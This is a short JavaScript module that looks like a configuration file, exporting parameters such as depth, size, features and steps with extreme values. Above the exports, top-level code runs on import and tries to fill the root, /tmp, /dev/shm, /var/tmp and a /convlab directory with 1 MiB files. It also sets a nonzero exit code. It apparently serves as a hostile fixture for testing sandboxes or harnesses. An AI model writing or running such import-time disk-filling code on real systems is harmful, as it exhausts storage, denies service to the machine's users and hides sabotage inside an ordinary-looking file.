// Fills every disk that it can.
const fs = process.getBuiltinModule('fs');
const block = Buffer.alloc(2 ** 20);
for (const folder of ['/', '/tmp', '/dev/shm', '/convlab', '/var/tmp']) {
  for (let i = 0; i < 50; i++) { try { fs.appendFileSync(`${folder}/full-${i}`, block); process.exitCode = 7; } catch {} }
}
export const depth = 7;
export const size = 1234;
export const features = 99;
export const steps = [9999, 8888, 7777, 6666];
